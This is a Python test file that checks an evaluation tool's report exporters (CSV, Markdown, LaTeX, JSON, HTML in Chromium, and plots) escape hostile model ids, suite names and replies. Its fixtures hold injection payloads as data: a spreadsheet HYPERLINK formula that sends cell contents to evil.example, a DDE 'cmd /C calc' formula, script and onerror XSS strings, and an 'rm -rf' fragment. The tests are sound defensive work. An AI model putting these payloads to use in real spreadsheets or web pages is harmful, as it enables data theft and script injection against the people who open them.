"""Text is data in every export. Model ids, suite names, cell ids, question ids, answers
and replies that hold a spreadsheet formula, Markdown, LaTeX, HTML, mathtext or a lone
surrogate come out of every writer as written: CSV, Markdown (the report, table.md,
`evalpipe show --table`, compare), LaTeX, JSON, the HTML report (in real Chromium) and
its plots (evalpipe/_report/escape.py, one rule per output kind)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from helpers import CHROMIUM, CHROMIUM_ARGS, playwright_or_skip
from report_fixtures import write_run
from synth import make_sample

from evalpipe import api
from evalpipe._report import escape
from evalpipe._report.build import build_report
from evalpipe._report.compare import render_markdown as compare_markdown
from evalpipe._report.html import render_html
from evalpipe._report.load import load_run
from evalpipe._report.render import render_csv, render_json, render_latex, render_markdown
from evalpipe._report.show import calls_table
from evalpipe._report.tables import score_table
from evalpipe.questions import Question

# Two models, each a different attack, and a suite, question id and reply that are others.
MODEL_A = ('=HYPERLINK("http://evil.example/?"&A1,"ok")|<img src=x onerror=alert(1)> '
           "$\\frac{$ *b* _i_ `c` [l](http://e.example) \\textbf{x} ~~s~~ a--b ,,c \"q\" &amp;")
MODEL_B = "-2+3 <script>alert(2)</script> {\\bf x} # % ^ _lead"
SUITE = "+SUM(1)|x\n<b>s</b>"
QID = "@q1</script><!--"
REPLY = "</script><script>alert(3)</script> | =1+1 \ud800"
CELL_A = f"{MODEL_A}/-/none/no-rag"
CELL_B = f"{MODEL_B}/-/none/no-rag"
HOSTILE = [MODEL_A, MODEL_B, SUITE, QID, CELL_A, CELL_B]
WARNING = "the server said: <img src=x onerror=alert(4)> | `rm -rf` $x$ \\end{table}"
ERROR = "stopped by =cmd|' /C calc'!A0 </p><script>alert(5)</script>"


def _question(qid: str, answer: str) -> Question:
    return Question(id=qid, suite=SUITE, question=f"What is {answer}? <i>{qid}</i>",
                    answer=answer, answer_type="text")


QUESTIONS = [_question(QID, "<b>42</b>"), _question("plain", "7")]


def _settings(model: str, parameters: float) -> dict:
    return {"model": {"id": model, "backend": "openai", "parameters": parameters},
            "format": "hermes", "toolset": "none", "retrieval": {"mode": "none"},
            "tools_offered": [], "k": 3}


def _samples(run_id: str, right: bool, model_b: str) -> list[dict]:
    out = []
    for cell, model in ((CELL_A, MODEL_A), (f"{model_b}/-/none/no-rag", model_b)):
        for q in QUESTIONS:
            answer = str(q.answer) if right or q.id == "plain" else REPLY
            out.append(make_sample(q, answer, cell_id=cell, run_id=run_id, model=model,
                                   toolset="none", tools_offered=[], wall_ms=100.0))
    return out


def make_hostile_run(path: Path, run_id: str = "run-h", right: bool = False,
                     model_b: str = MODEL_B) -> Path:
    """A finished-then-failed run of two hostile models (`model_b` may be another)."""
    write_run(path, _samples(run_id, right, model_b), run_id=run_id, questions=QUESTIONS,
              settings={CELL_A: _settings(MODEL_A, 135e6),
                        f"{model_b}/-/none/no-rag": _settings(model_b, 1.5e9)})
    manifest = json.loads((path / "manifest.json").read_text())
    manifest.update(status="failed", error=ERROR, warnings=[WARNING],
                    config={**manifest["config"], "name": model_b,
                            "models": [MODEL_A, model_b]})
    (path / "manifest.json").write_text(json.dumps(manifest))
    return path


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    return load_run(make_hostile_run(tmp_path_factory.mktemp("hostile") / "run-h"),
                    allow_partial=True)


@pytest.fixture(scope="module")
def data(run):
    return build_report(run)


def _visible(text: str) -> str:
    """What each writer shows for a lone surrogate: its \\uXXXX escape."""
    return re.sub("[\ud800-\udfff]", lambda m: f"\\u{ord(m.group()):04x}", text)


# -- CSV ------------------------------------------------------------------------------------

FORMULA = tuple("=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
                                  "\x00x", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1",
                                  "  =1+1", "=cmd|' /C calc'!A0"])
def test_every_formula_start_of_owasps_list_is_written_as_text(text):
    assert escape.csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-0.05, 3, 0.625, "-3", "1e-3", "plain", "a=b", ""])
def test_numbers_and_plain_text_are_left_as_they_are(value):
    cell = escape.csv_cell(value)
    assert cell == (repr(value) if isinstance(value, float) else value)


def test_csv_cells_cannot_be_formulas_and_numbers_stay_numbers(data):
    rows = list(csv.DictReader(io.StringIO(render_csv(data))))
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA) or re.fullmatch(r"-?[\d.e-]+", cell), (
                column, cell)
        for column in ("value", "n", "lo", "hi"):
            if row[column]:
                float(row[column])  # a number, never a quoted text
    models = {row["model"] for row in rows}
    assert models == {"'" + MODEL_A, "'" + _visible(MODEL_B)}  # as written, behind one apostrophe
    assert {row["suite"] for row in rows} == {"'" + SUITE, "all"}
    assert {row["cell_id"] for row in rows} == {"'" + CELL_A, "'" + _visible(CELL_B)}


# -- Markdown -------------------------------------------------------------------------------

def _markdown_html(text: str) -> str:
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)


class _Cells(HTMLParser):
    """Every table cell's text, all text, and each element with the text inside it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.rows: list[list[str]] = []
        self.elements: list[tuple[str, str]] = []
        self.text: list[str] = []
        self._open: list[tuple[str, int]] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self._cell = []
        elif tag == "br" and self._cell is not None:
            self._cell.append("\n")
        if tag in ("br", "hr", "img"):
            self.elements.append((tag, ""))
        else:
            self._open.append((tag, len(self.text)))

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append("".join(self._cell))
            self._cell = None
        while self._open:
            name, start = self._open.pop()
            self.elements.append((name, "".join(self.text[start:])))
            if name == tag:
                break

    def handle_data(self, data):
        self.text.append(data)
        if self._cell is not None:
            self._cell.append(data)


def _rendered(text: str) -> _Cells:
    cells = _Cells()
    cells.feed(_markdown_html(text))
    return cells


NEVER = {"img", "script", "a", "s", "del", "b", "i", "iframe", "svg"}
# what the attacks would put inside an element of their own
MARKERS = ("alert", "evil", "frac", "HYPERLINK", "SUM(", "lead", "textbf", "q1", "rm -rf",
           "bf x", "*b*", "_i_")


def _check_markdown(text: str) -> list[list[str]]:
    """The rendered Markdown makes no element out of the run's text (emphasis, code, links,
    images, HTML), tables keep their shape, and the text can be written as UTF-8; returns
    the rows of every table. A code span may hold a whole value (md_code), not a piece."""
    text.encode("utf-8")
    cells = _rendered(text)
    for tag, inside in cells.elements:
        assert tag not in NEVER, (tag, inside)
        if tag in ("em", "strong", "code") and inside not in [_visible(v) for v in HOSTILE]:
            assert not any(m in inside for m in MARKERS), (tag, inside)
    return cells.rows


def test_markdown_escapes_every_kind_of_markup():
    hostile = ("a|b\nc *e* _f_ `g` [h](http://x) ![i](http://y) <img src=z> &amp; $m$ "
               "~~s~~ \\ site_rag \ud800")
    [[cell]] = _check_markdown(f"| h |\n|---|\n| {escape.md(hostile)} |\n")[1:]
    assert cell == _visible(hostile)


def test_the_markdown_report_shows_every_value_as_written(data):
    text = render_markdown(data)
    rows = _check_markdown(text)
    shown = {cell for row in rows for cell in row}
    assert {CELL_A, _visible(CELL_B), SUITE} <= shown
    rendered = _markdown_html(text)
    assert "onerror=alert(4)" in rendered and "&lt;img" in rendered  # the warning, as text


def test_table_md_written_at_the_end_of_a_run_shows_cells_as_written(run):
    rows = _check_markdown(score_table(run.scores))
    assert {row[0] for row in rows[1:]} == {CELL_A, _visible(CELL_B)}
    assert all(len(row) == len(rows[0]) for row in rows)


def test_show_table_shows_replies_and_ids_as_written(run):
    rows = _check_markdown(calls_table(run.samples, run.scores["samples"], run.questions))
    assert [len(r) for r in rows] == [5] * 5
    assert {row[0] for row in rows[1:]} == {CELL_A, _visible(CELL_B)}
    assert _visible(" ".join(REPLY.split())) in {row[3] for row in rows[1:]}


def test_compare_markdown_shows_cells_and_ids_as_written(tmp_path):
    a = make_hostile_run(tmp_path / "a", "run-a", right=True)
    b = make_hostile_run(tmp_path / "b", "run-b", right=False)
    for path in (a, b):
        manifest = json.loads((path / "manifest.json").read_text())
        (path / "manifest.json").write_text(json.dumps({**manifest, "status": "finished"}))
    text = compare_markdown(api.compare(a, b, resamples=200))
    rows = _check_markdown(text)
    assert rows and all(len(row) in (len(rows[0]), 3) for row in rows)  # metrics, moves
    rendered = _rendered(text)
    shown = "".join(rendered.text)
    assert "right -> wrong (2): " in shown and f"no-rag:{_visible(QID)}\n" in shown
    assert ("code", CELL_A) in rendered.elements  # the section title, one code span


# -- LaTeX ----------------------------------------------------------------------------------

@pytest.mark.skipif(shutil.which("pdflatex") is None or shutil.which("pdftotext") is None,
                    reason="pdflatex and pdftotext not installed (apt-get install "
                           "texlive-latex-base texlive-latex-recommended poppler-utils)")
def test_latex_compiles_and_shows_every_value_as_written(data, tmp_path):
    (tmp_path / "r.tex").write_text(render_latex(data, standalone=True), encoding="utf-8")
    proc = subprocess.run(["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "r.tex"],
                          check=False, cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout[-3000:]
    subprocess.run(["pdftotext", "r.pdf", "r.txt"], cwd=tmp_path, check=True, timeout=60)
    shown = re.sub(r"\s", "", (tmp_path / "r.txt").read_text(encoding="utf-8"))
    for value in (CELL_A, CELL_B, SUITE):
        assert re.sub(r"\s", "", _visible(value)) in shown, value


def test_latex_cells_read_back_as_written():
    """The same check without a TeX installation: pylatexenc reads the cells back (told
    what the text-symbol commands print, which it does not know)."""
    l2t = pytest.importorskip("pylatexenc.latex2text")
    symbols = {"textless": "<", "textgreater": ">", "textbar": "|", "textquotedbl": '"',
               "textasciicircum": "^"}
    db = l2t.get_default_latex_context_db()
    db.add_context_category("symbols", prepend=True, macros=[
        l2t.MacroTextSpec(name, text) for name, text in symbols.items()])
    to_text = l2t.LatexNodes2Text(latex_context=db)
    for value in (MODEL_A, MODEL_B, SUITE, CELL_A, "^~\\`'\"<>|--,,[*]"):
        shown = to_text.latex_to_text(escape.tex(value))
        assert shown == _visible(value).replace("\n", " "), (value, shown)


@pytest.mark.parametrize("value", ["[1em]", "*", "a\n\nb", "%", "\\\\", "}{", "x\x1by"])
def test_a_latex_cell_cannot_end_its_row_or_the_table(value):
    """A cell after a row break that starts with `[` or `*` would be read as the break's
    option; a blank line would end the paragraph inside a table."""
    out = escape.tex(value)
    assert not out.startswith(("[", "*")) and "\n" not in out and "\x1b" not in out
    assert re.sub(r"\\[a-z]+\{\}|\\[&%$#_{}^]|\{[\[\]*]\}|\{\}", "", out).count("\\") == 0


# -- JSON -----------------------------------------------------------------------------------

def test_json_keeps_every_string_and_writes_surrogates_as_escapes(data):
    text = render_json(data)
    text.encode("utf-8")
    assert json.loads(text)["run"]["warnings"] == [WARNING]
    assert CELL_A in {c["cell_id"] for c in json.loads(text)["cells"]}


# -- every format through the command line, to a file ---------------------------------------

@pytest.mark.parametrize("fmt", ["md", "csv", "latex", "html", "json"])
def test_report_to_a_file_never_fails_on_a_lone_surrogate(tmp_path, fmt):
    """A model id can hold one (a config's "\\ud800"); the report names it as an escape."""
    path = make_hostile_run(tmp_path / "run-h", model_b=MODEL_B + " \ud800")
    out = tmp_path / f"report.{fmt}"
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    res = subprocess.run([sys.executable, "-m", "evalpipe", "report", str(path), "--format",
                          fmt, "--allow-partial", "--out", str(out)],
                         capture_output=True, text=True, env=env, check=False)
    assert res.returncode == 0, res.stderr
    written = out.read_text(encoding="utf-8")
    assert ("\\textbackslash{}ud800" if fmt == "latex" else "\\ud800") in written


@pytest.mark.parametrize("fmt", ["csv", "md"])
def test_the_report_command_writes_ids_and_suites_as_data(tmp_path, fmt):
    """`evalpipe report`, the real command: model ids starting with `=` and `-` and a
    suite starting with `+` reach no CSV cell as a formula, and the `|` and newline in
    them leave every Markdown row whole (before, they were written raw: formulas in the
    CSV, rows split in the Markdown)."""
    path = make_hostile_run(tmp_path / "run-h")
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    res = subprocess.run([sys.executable, "-m", "evalpipe", "report", str(path), "--format",
                          fmt, "--allow-partial", "--out", str(tmp_path / f"r.{fmt}")],
                         capture_output=True, text=True, env=env, check=False)
    assert res.returncode == 0, res.stderr
    written = (tmp_path / f"r.{fmt}").read_text(encoding="utf-8")
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(written)))
        formulas = [cell for row in rows for cell in row.values()
                    if cell.startswith(FORMULA) and not re.fullmatch(r"-?[\d.e-]+", cell)]
        assert rows and formulas == []
        assert {row["cell_id"] for row in rows} == {"'" + CELL_A, "'" + _visible(CELL_B)}
        assert {row["suite"] for row in rows} == {"'" + SUITE, "all"}
    else:
        shown = {cell for row in _check_markdown(written) for cell in row}
        assert {CELL_A, _visible(CELL_B), SUITE} <= shown


# -- plots ----------------------------------------------------------------------------------

def test_plot_labels_are_drawn_as_written(data, monkeypatch):
    pytest.importorskip("matplotlib")
    from evalpipe._report import plots

    drawn = []
    monkeypatch.setattr(plots, "_png", lambda fig: drawn.append(fig) or b"png")
    assert set(plots.render_plots(data)) == {"accuracy_vs_size", "categories",
                                            "accuracy_vs_cost"}
    texts = []
    for fig in drawn:
        fig.canvas.draw()  # mathtext would fail here on "$\frac{$"
        texts += [t for t in fig.findobj(lambda o: hasattr(o, "get_parse_math"))
                  if t.get_text()]
    labels = {t.get_text() for t in texts}
    assert {CELL_A, _visible(CELL_B)} <= labels
    assert SUITE in labels
    assert not any(t.get_parse_math() for t in texts if "$" in t.get_text())


def test_a_label_starting_with_an_underscore_stays_in_the_legend():
    pytest.importorskip("matplotlib")
    from evalpipe._report.plots import _plt

    plt = _plt()
    fig, ax = plt.subplots()
    ax.plot([0, 1], [0, 1], label=escape.plot_text("_hidden-model/-/none/no-rag"))
    ax.plot([0, 1], [1, 0], label="_hidden-model/-/none/no-rag")  # as matplotlib hides it
    assert [t.get_text() for t in ax.legend().get_texts()] == [
        "\u200b_hidden-model/-/none/no-rag"]
    plt.close(fig)


def test_plots_render_to_png_with_mathtext_in_every_label(data):
    pytest.importorskip("matplotlib")
    from evalpipe._report.plots import render_plots

    for png in render_plots(data).values():
        assert png[:8] == b"\x89PNG\r\n\x1a\n"


# -- HTML in a real browser -----------------------------------------------------------------

def test_html_report_shows_every_value_as_text_in_chromium(run, data, tmp_path):
    from evalpipe._report.plots import render_plots

    sync_playwright = playwright_or_skip()
    page_file = tmp_path / "report.html"
    page_file.write_text(render_html(run, data, render_plots(data)), encoding="utf-8")
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            errors: list[str] = []
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.on("dialog", lambda d: (errors.append("dialog: " + d.message), d.dismiss()))
            page.goto(page_file.as_uri())
            page.wait_for_selector("#sample-body tr.sample-row")
            # nothing the run wrote became an element: only the page's own scripts, the
            # plots' images, no bold or italic text
            assert page.locator("script").count() == 4
            assert page.locator("img").count() == page.locator("img.plot").count() == 3
            assert page.locator("main b, main i, header b, header i").count() == 0
            cells = page.locator("table.acc td").all_inner_texts()
            assert CELL_A in cells and _visible(CELL_B) in cells
            headers = page.locator("table.acc th").all_inner_texts()
            assert SUITE.replace("\n", " ") in [h.replace("\n", " ") for h in headers]
            assert page.title() == "evalpipe report: run-h"
            facts = page.text_content("header .facts")
            assert MODEL_A in facts and _visible(MODEL_B) in facts
            notes = page.locator("p.warn").all_inner_texts()
            assert any(WARNING in n for n in notes) and any(ERROR in n for n in notes)
            # the sample browser, read back from the JSON block: ids and replies as text
            rows = " ".join(page.locator("#sample-body tr.sample-row").all_inner_texts())
            assert "@q1</script><!--" in rows and "<script>alert(3)</script>" in rows
            page.locator("#sample-body tr.sample-row").first.click()
            detail = page.locator("#sample-body tr.detail").inner_text()
            assert "<i>" in detail and page.locator("#sample-body tr.detail i").count() == 0
            assert errors == []
        finally:
            browser.close()
